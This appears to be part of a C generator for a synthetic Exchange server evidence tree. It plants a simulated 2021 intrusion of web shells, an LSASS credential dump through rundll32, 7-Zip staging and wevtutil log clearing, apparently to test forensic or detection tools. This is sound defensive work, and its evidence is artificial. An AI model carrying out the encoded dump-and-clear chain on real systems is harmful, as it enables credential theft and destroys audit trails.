#define W_CHAIN "cmd.exe /c " W_STAGE_CMD "&" W_CLEAR("System") "&" W_CLEAR("Security")
#define SCHEDULE W_SYS32 "svchost.exe -k netsvcs -p -s Schedule"
#define ADMIN_LOGON                                                                                \
    SF("SubjectUserSid", "S-1-5-18"), SF("SubjectUserName", SERVER "$"),                           \
        SF("SubjectDomainName", "CONTOSO"), SF("TargetUserName", "exadmin"),                       \
        SF("TargetDomainName", "CONTOSO"), SF("LogonType", "3"),                                   \
        SF("AuthenticationPackageName", "Kerberos"), SF("IpAddress", "10.1.10.5")

static const story_ev story[] = {
    /* benign: a service host, Defender reading lsass, OWA compiling its pages */
    EV("2021-03-02T08:00:12.301Z", L_SYSMON, 1,
       PROC("2316", W_SYS32 "svchost.exe", SCHEDULE, "640", W_SYS32 "services.exe",
            W_SYS32 "services.exe")),
    EV("2021-03-02T10:30:05.118Z", L_SYSMON, 10, SF("SourceProcessId", "3012"),
       SF("SourceImage", W_DEFENDER "Platform\\4.18.2102.3-0\\MsMpEng.exe"),
       SF("TargetProcessId", LSASS_PID), SF("TargetImage", W_LSASS), SF("GrantedAccess", "0x1010"),
       SF("CallTrace",
          W_SYS32 "ntdll.dll+9d234|" W_SYS32 "KERNELBASE.dll+2c0fe|" W_DEFENDER
                  "Definition Updates\\{A3B1C2D4-0E5F-4A6B-8C7D-9E0F1A2B3C4D}\\mpengine.dll+4f21a"),
       SF("SourceUser", W_SYSTEM), SF("TargetUser", W_SYSTEM)),
    EV("2021-03-02T14:12:40.877Z", L_SYSMON, 1,
       PROC("5408", W_NET "csc.exe",
            "\"" W_NET "csc.exe\" /noconfig /fullpaths @\"" W_NET
            "Temporary ASP.NET Files\\owa\\b3f5e3a1\\6c7d0e92\\5zt2ty1w.cmdline\"",
            OWA_POOL, W_W3WP, W3WP_OWA)),
    /* 03-03: the shells written, China Chopper's command, the look-alike uploaded, whoami */
    EV("2021-03-03T07:12:20.690Z", L_SYSMON, 11, CREATE("6612", W_W3WP, W_OWA_AUTH "errorEE.aspx")),
    EV("2021-03-03T07:14:03.117Z", L_SYSMON, 11,
       CREATE("7348", W_EXCH "\\Bin\\MSExchangeMailboxAssistants.exe", W_ASPNET "x.aspx")),
    EV("2021-03-03T07:15:09.861Z", L_SYSMON, 1,
       PROC("9316", W_SYS32 "cmd.exe", CHOPPER_CMD(WHOAMI), "3820", W_W3WP,
            W_W3WP_CMD("DefaultAppPool"))),
    EV("2021-03-03T07:15:30.958Z", L_SYSMON, 11,
       CREATE("3820", W_W3WP, W_OWA_AUTH "RedirSuiteServerProxy.aspx")),
    EV("2021-03-03T07:20:05.290Z", L_SYSMON, 1,
       PROC("9544", W_SYS32 "cmd.exe", "cmd.exe /c " WHOAMI, OWA_POOL, W_W3WP, W3WP_OWA)),
    /* 03-04: the ProxyShell export, written through the administrative share */
    EV("2021-03-04T14:03:09.402Z", L_SYSMON, 11, CREATE("4", "System", W_ASPNET "s.aspx")),
    /* 03-05 03:06: the LSASS dump, through the look-alike */
    EV("2021-03-05T03:06:27.412Z", L_SYSMON, 1,
       PROC("8840", W_SYS32 "cmd.exe", "cmd.exe /c " W_DUMP_CMD, OWA_POOL, W_W3WP, W3WP_OWA)),
    EV("2021-03-05T03:06:27.455Z", L_SYSMON, 1,
       PROC("8852", W_SYS32 "rundll32.exe", W_DUMP_CMD, "8840", W_SYS32 "cmd.exe",
            "cmd.exe /c " W_DUMP_CMD)),
    EV("2021-03-05T03:06:27.471Z", L_SYSMON, 10, SF("SourceProcessId", "8852"),
       SF("SourceImage", W_SYS32 "rundll32.exe"), SF("TargetProcessId", LSASS_PID),
       SF("TargetImage", W_LSASS), SF("GrantedAccess", "0x1FFFFF"),
       SF("CallTrace", W_SYS32 "ntdll.dll+9d234|" W_SYS32 "KERNELBASE.dll+2c0fe|" W_SYS32 "com"
                               "svcs.dll+3d39d|" W_SYS32 "rundll32.exe+3bc4"),
       SF("SourceUser", W_SYSTEM), SF("TargetUser", W_SYSTEM)),
    EV("2021-03-05T03:06:27.603Z", L_SYSMON, 11, CREATE("8852", W_SYS32 "rundll32.exe", W_DUMP)),
    /* 03-05 08:11: the dump staged, then the System and Security logs cleared */
    EV("2021-03-05T08:11:58.402Z", L_SYSMON, 1,
       PROC("9012", W_SYS32 "cmd.exe", W_CHAIN, OWA_POOL, W_W3WP, W3WP_OWA)),
    EV("2021-03-05T08:11:58.430Z", L_SYSMON, 1,
       PROC("9028", W_7Z, W_STAGE_CMD, "9012", W_SYS32 "cmd.exe", W_CHAIN)),
    EV("2021-03-05T08:11:58.512Z", L_SYSMON, 11, CREATE("9028", W_7Z, "C:\\ProgramData\\it.zip")),
    EV("2021-03-05T08:11:58.603Z", L_SYSMON, 1,
       PROC("9064", W_SYS32 "wevtutil.exe", W_CLEAR("System"), "9012", W_SYS32 "cmd.exe", W_CHAIN)),
    EV_CLEARED("2021-03-05T08:11:58.641Z", L_SYSTEM, 104, SF("SubjectUserName", "SYSTEM"),
               SF("SubjectDomainName", "NT AUTHORITY"), SF("Channel", "System")),
    EV("2021-03-05T08:11:58.705Z", L_SYSMON, 1,
       PROC("9080", W_SYS32 "wevtutil.exe", W_CLEAR("Security"), "9012", W_SYS32 "cmd.exe",
            W_CHAIN)),
    EV_CLEARED("2021-03-05T08:11:58.751Z", L_SECURITY, 1102, SF("SubjectUserSid", "S-1-5-18"),
               SF("SubjectUserName", SERVER "$"), SF("SubjectDomainName", "CONTOSO"),
               SF("SubjectLogonId", "0x3e7")),
    /* benign, after the clear: an admin's logon, services */
    EV("2021-03-05T09:02:13.560Z", L_SECURITY, 4624, ADMIN_LOGON),
    EV("2021-03-05T09:30:41.007Z", L_SYSTEM, 7036, SF("param1", "Windows Modules Installer"),
       SF("param2", "running")),
    /* 03-06: the March update */
    EV("2021-03-06T00:00:05.316Z", L_SYSTEM, 7036, SF("param1", "Microsoft Exchange Transport"),
       SF("param2", "stopped")),
    EV("2021-03-06T00:00:41.233Z", L_SYSMON, 11,
       CREATE("9120", W_SYS32 "msiexec.exe", W_OWA_AUTH "logon.aspx")),
    EV("2021-03-06T00:00:41.240Z", L_SYSMON, 11,
       CREATE("9120", W_SYS32 "msiexec.exe", W_OWA_AUTH "errorFE.aspx")),
    EV("2021-03-06T00:02:11.874Z", L_SYSTEM, 7036, SF("param1", "Microsoft Exchange Transport"),
       SF("param2", "running")),
    /* 03-06 17:27: Defender takes the look-alike as the hunter asks for it */
    EV_LEVEL("2021-03-06T17:27:45.108Z", L_DEFENDER, 1116, 3,
             DEFENDER_HIT(W_OWA_AUTH "RedirSuiteServerProxy.aspx")),
    EV("2021-03-06T17:27:45.913Z", L_DEFENDER, 1117,
       DEFENDER_HIT(W_OWA_AUTH "RedirSuiteServerProxy.aspx"), SF("Action Name", "Quarantine")),
    EV("2021-03-08T08:00:12.118Z", L_SYSMON, 1,
       PROC("2290", W_SYS32 "svchost.exe", SCHEDULE, "640", W_SYS32 "services.exe",
            W_SYS32 "services.exe")),
    EV("2021-03-08T10:15:22.930Z", L_SECURITY, 4624, ADMIN_LOGON),
};
#define NSTORY (sizeof story / sizeof story[0])

/* One file of the story, written (modified) at t. */
static void story_put(gen *g, const char *rel, int64_t t, const void *data, size_t n)
{
    member m;
    m_open(&g->o, &m, rel);
    m_write(&g->o, &m, data, n);
    m.last_ms = t;
    m_close(&g->o, &m);
}

static void story_fix(gen *g, const char *rel, const char *when, const char *fixture)
{
    t_fix *f = t_fix_make(fixture);
    if (!f)
        die(fixture);
    story_put(g, rel, iso(when), f->data, f->len);
    t_fix_free(f);
}

/* "2021-03-03 07:15:09.861", Sysmon's UtcTime */
static void sysmon_time(int64_t t, char out_[32])
{
    sb b = {out_, 0};
    sb_iso(&b, t);
    out_[10] = ' ';
    out_[23] = 0;
}

static void story_logs_write(gen *g)
{
    xs_evtxw *w[L__COUNT];
    int64_t last[L__COUNT];
    for (int l = 0; l < L__COUNT; l++) {
        w[l] = xs_evtxw_create();
        if (!w[l])
            die("memory");
        last[l] = INT64_MIN;
    }
    for (size_t i = 0; i < NSTORY; i++) {
        const story_ev *s = &story[i];
        int64_t t = iso(s->when);
        char utc[32];
        sysmon_time(t, utc);
        xs_evtxw_field f[STORY_FIELDS + 2];
        size_t n = 0;
        if (s->log == L_SYSMON)
            f[n++] = (xs_evtxw_field)SF("UtcTime", utc);
        for (size_t k = 0; k < STORY_FIELDS && s->f[k].name; k++) {
            f[n++] = s->f[k];
            if (s->log == L_SYSMON && s->id == 11 && strcmp(s->f[k].name, "TargetFilename") == 0)
                f[n++] = (xs_evtxw_field)SF("CreationUtcTime", utc);
        }
        xs_evtxw_event e = {.provider = s->provider ? s->provider : story_logs[s->log].provider,
                            .channel = story_logs[s->log].channel,
                            .computer = SERVER_FQDN,
                            .event_id = s->id,
                            .level = s->level ? s->level : 4,
                            .time_ms = t};
        if (s->user_root) {
            e.user_root = s->user_root;
            e.user = f;
            e.nuser = n;
            e.user_ns = EVENTLOG_NS;
        } else {
            e.data = f;
            e.ndata = n;
        }
        if (xs_evtxw_add(w[s->log], &e) != 0)
            die("evtx");
        last[s->log] = t;
    }
    for (int l = 0; l < L__COUNT; l++) {
        size_t n;
        uint8_t *log = xs_evtxw_take(w[l], &n);
        if (!log)
            die("evtx");
        char rel[256];
        snprintf(rel, sizeof rel, "C/Windows/System32/winevt/Logs/%s", story_logs[l].file);
        story_put(g, rel, last[l], log, n);
        free(log);
    }
}

/* The ProxyShell page: a mailbox exported as a PST into aspnet_client, the page the attacker
 * mailed among its blocks (the header of a Unicode PST, then the page; PST's own encoding of
 * the blocks is not modelled). */
static void story_pst(gen *g, const char *rel, const char *when)
{
    t_fix *f = t_fix_make("ws-eval");
    if (!f)
        die("ws-eval");
    size_t n = 1024 + f->len + 512;
    unsigned char *p = calloc(1, n);
    if (!p)
        die("memory");
    static const unsigned char hdr[] = {'!', 'B', 'D',  'N',  0x3c, 0x9f, 0x11, 0xd2,
                                        'S', 'M', 0x17, 0x00, 0x13, 0x00, 0x01, 0x01};
    memcpy(p, hdr, sizeof hdr);
    memcpy(p + 1024, f->data, f->len);
    story_put(g, rel, iso(when), p, n);
    free(p);
    t_fix_free(f);
}

/* errorEE.aspx: the OAB virtual directory's settings the reset wrote, with the ExternalUrl
 * script the ECP log shows (the fixture's, its parameter renamed to the log's). */
static void story_oab_dump(gen *g, const char *rel, const char *when)
{
    t_fix *f = t_fix_make("ws-oab-dump");
    if (!f)
        die("ws-oab-dump");
    const char *from = "Request[\"k\"]", *to = "Request[\"orange\"]";
    char *at = memmem(f->data, f->len, from, strlen(from));
    if (!at)
        die("ws-oab-dump: no parameter to rename");
    size_t pre = (size_t)((unsigned char *)at - f->data), post = f->len - pre - strlen(from);
    size_t n = pre + strlen(to) + post;
    unsigned char *p = malloc(n);
    if (!p)
        die("memory");
    memcpy(p, f->data, pre);
    memcpy(p + pre, to, strlen(to));
    memcpy(p + pre + strlen(to), at + strlen(from), post);
    story_put(g, rel, iso(when), p, n);
    free(p);
    t_fix_free(f);
}

static void story_write(gen *g)
{
    char rel[512];
    /* the web shells, and the pages the update rewrote beside them */
    snprintf(rel, sizeof rel, "%s/FrontEnd/HttpProxy/owa/auth/errorEE.aspx", g->lay->exch);
    story_oab_dump(g, rel, "2021-03-03T07:12:20.690Z");
    story_fix(g, "C/inetpub/wwwroot/aspnet_client/x.aspx", "2021-03-03T07:14:03.117Z", "ws-eval");
    story_pst(g, "C/inetpub/wwwroot/aspnet_client/s.aspx", "2021-03-04T14:03:09.402Z");
    snprintf(rel, sizeof rel, "%s/FrontEnd/HttpProxy/owa/auth/logon.aspx", g->lay->exch);
    story_fix(g, rel, "2021-03-06T00:00:41.233Z", "benign-logon");
    snprintf(rel, sizeof rel, "%s/FrontEnd/HttpProxy/owa/auth/errorFE.aspx", g->lay->exch);
    story_fix(g, rel, "2021-03-06T00:00:41.240Z", "benign-logon");
    /* the dump (taken at 03:06:27: its header says so too), and the archive it was staged in */
    int64_t dumped = iso("2021-03-05T03:06:27.603Z");
    size_t dn;
    unsigned char *d = t_fix_minidump(W_LSASS, 668, &dn);
    if (!d)
        die("memory");
    uint32_t stamp = (uint32_t)(dumped / 1000);
    for (int i = 0; i < 4; i++)
        d[20 + i] = (unsigned char)(stamp >> (8 * i));
    story_put(g, "C/Windows/Temp/debug.dmp", dumped + 1000, d, dn);
    int64_t staged = iso("2021-03-05T08:11:58.512Z");
    size_t zn;
    unsigned char *z = t_zip_stored("debug.dmp", d, dn, (dumped + 1000) / 1000, &zn);
    if (!z)
        die("memory");
    story_put(g, "C/ProgramData/it.zip", staged, z, zn);
    free(z);
    free(d);
    story_logs_write(g);
}

static void usage(FILE *f)
{
    fputs(
        "usage: gentree [options] DIR\n"
        "       gentree [options] --zip FILE | --tar-gz FILE\n"
        "       gentree --robust KIND DIR\n"
        "\n"
        "Writes a synthetic Exchange server evidence tree (logs of 2-8 March 2021).\n"
        "\n"
        "  --seed N         PRNG seed (default 1): the benign traffic; planted rows never change\n"
        "  --benign         leave the planted intrusion out\n"
        "  --story          add what the planted intrusion left beside its logs: the web shells\n"
        "                   on disk, Sysmon, Security, System and Defender event logs, an LSASS\n"
        "                   dump and the archive it was staged in (the default layout only;\n"
        "                   the tree of make demo)\n"
        "  --layout L       default (C:\\Program Files\\...\\V15, C:\\inetpub) or alt\n"
        "                   (E:\\Exchange\\V15, D:\\inetpub)\n"
        "  --scale MIB      about MIB MiB of logs over 1-8 March, every hour (benchmarks)\n"
        "  --zip FILE       write a zip instead of a folder\n"
        "  --tar-gz FILE    write a tar.gz instead of a folder\n"
        "  --robust KIND    one hostile-input fixture: longline, binary, badquote, badutf8,\n"
        "                   truncated, wide, corruptzip, special\n",
        f);
}

int main(int argc, char **argv)
{
    gen *g = calloc(1, sizeof *g);
    if (!g)
        die("memory");
    g->row.p = malloc(SB_CAP);
    if (!g->row.p)
        die("memory");
    g->seed = 1;
    g->lay = &layout_default;
    g->first_day = 2;
    g->ndays = 7;
    const char *zip = NULL, *tgz = NULL, *dir = NULL, *robust_kind = NULL;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--seed") == 0 && v) {
            g->seed = strtoull(v, NULL, 10);
            i++;
        } else if (strcmp(a, "--benign") == 0) {
            g->benign = true;
        } else if (strcmp(a, "--story") == 0) {
            g->story = true;
        } else if (strcmp(a, "--layout") == 0 && v) {
            if (strcmp(v, "alt") == 0)
                g->lay = &layout_alt;
            else if (strcmp(v, "default") != 0) {
                usage(stderr);
                return 2;
            }
            i++;
        } else if (strcmp(a, "--scale") == 0 && v) {
            g->scale = true;
            g->target = strtoull(v, NULL, 10) << 20;
            g->first_day = 1;
            g->ndays = 8;
            i++;
        } else if (strcmp(a, "--zip") == 0 && v) {
            zip = v;
            i++;
        } else if (strcmp(a, "--tar-gz") == 0 && v) {
            tgz = v;
            i++;
        } else if (strcmp(a, "--robust") == 0 && v) {
            robust_kind = v;
            i++;
        } else if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
            usage(stdout);
            return 0;
        } else if (a[0] != '-' && !dir) {
            dir = a;
        } else {
            usage(stderr);
            return 2;
        }
    }
    if ((!zip && !tgz && !dir) || (zip && tgz) || ((zip || tgz) && dir) || (robust_kind && !dir) ||
        (g->story && (g->benign || robust_kind || g->lay != &layout_default))) {
        usage(stderr);
        return 2;
    }
    if (zip || tgz) {
        g->o.a = archive_write_new();
        if (zip) {
            archive_write_set_format_zip(g->o.a);
        } else {
            archive_write_add_filter_gzip(g->o.a);
            archive_write_set_format_pax_restricted(g->o.a);
        }
        if (archive_write_open_filename(g->o.a, zip ? zip : tgz) != ARCHIVE_OK) {
            fprintf(stderr, "gentree: %s: %s\n", zip ? zip : tgz, archive_error_string(g->o.a));
            return 2;
        }
    } else {
        if (mkdir(dir, 0755) != 0 && errno != EEXIST)
            die(dir);
        g->o.root = dir;
    }
    if (robust_kind)
        robust(g, robust_kind, dir);
    else
        generate(g);
    if (g->story)
        story_write(g);
    if (g->o.a) {
        if (archive_write_close(g->o.a) != ARCHIVE_OK) {
            fprintf(stderr, "gentree: %s\n", archive_error_string(g->o.a));
            return 2;
        }
        archive_write_free(g->o.a);
    }
    fprintf(stderr, "gentree: %llu files, %llu bytes\n", (unsigned long long)g->o.files,
            (unsigned long long)g->o.total);
    free(g->row.p);
    free(g);
    return 0;
}
